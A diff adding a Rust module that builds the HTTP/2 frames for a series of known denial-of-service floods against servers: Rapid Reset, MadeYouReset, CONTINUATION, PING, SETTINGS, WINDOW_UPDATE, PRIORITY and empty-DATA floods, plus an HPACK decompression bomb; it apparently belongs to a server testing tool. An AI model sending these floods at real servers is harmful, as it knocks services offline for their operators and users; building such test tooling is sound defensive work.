@@ -1,0 +1,54 @@
+//! The frames of each flood.
+
+use super::Flood;
+use crate::h2::{block, frame};
+
+/// What comes once, before the units.
+pub(super) fn opening(flood: Flood) -> Vec<u8> {
+    match flood {
+        Flood::Continuation => frame::write(frame::HEADERS, 0, 1, &block::get("/", &[])),
+        Flood::EmptyData => frame::headers(1, &block::request("POST", "/", &[]), 0),
+        _ => Vec::new(),
+    }
+}
+
+/// The `n`th unit.
+pub(super) fn unit(flood: Flood, n: usize) -> Vec<u8> {
+    let stream = u32::try_from(2 * n + 1).expect("floods are shorter than the stream ids");
+    match flood {
+        Flood::RapidReset => {
+            [get(stream, "/"), frame::write(frame::RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
+        }
+        Flood::MadeYouReset => [get(stream, "/"), window(stream, 0)].concat(),
+        Flood::Continuation => {
+            let field = [(b"x".to_vec(), b"y".to_vec())];
+            frame::write(frame::CONTINUATION, 0, 1, &block::encode(&field))
+        }
+        Flood::Ping => frame::write(frame::PING, 0, 0, &(n as u64).to_be_bytes()),
+        Flood::Settings => frame::settings(&[]),
+        Flood::WindowUpdate => window(0, 1),
+        Flood::Priority => frame::write(frame::PRIORITY, 0, 1, &[0, 0, 0, 0, 16]),
+        Flood::EmptyData => frame::write(frame::DATA, 0, 1, &[]),
+        Flood::HpackBomb | Flood::WindowStall => Vec::new(),
+    }
+}
+
+/// A whole GET on a stream.
+pub(super) fn get(stream: u32, path: &str) -> Vec<u8> {
+    frame::headers(stream, &block::get(path, &[]), frame::END_STREAM)
+}
+
+/// A window opened by so much.
+pub(super) fn window(stream: u32, size: u32) -> Vec<u8> {
+    frame::write(frame::WINDOW_UPDATE, 0, stream, &size.to_be_bytes())
+}
+
+/// One large entry for the dynamic table, then references to it: each byte decodes to four thousand.
+pub(super) fn bomb() -> Vec<u8> {
+    const INDEXED: u8 = 0x40;
+    const FIRST_DYNAMIC: u8 = 0x80 | 62;
+    let mut fields = block::get("/", &[]);
+    block::literal(&mut fields, INDEXED, b"x", &[b'a'; 4000]);
+    fields.extend([FIRST_DYNAMIC; 16_000]);
+    frame::headers(1, &fields, frame::END_STREAM)
+}
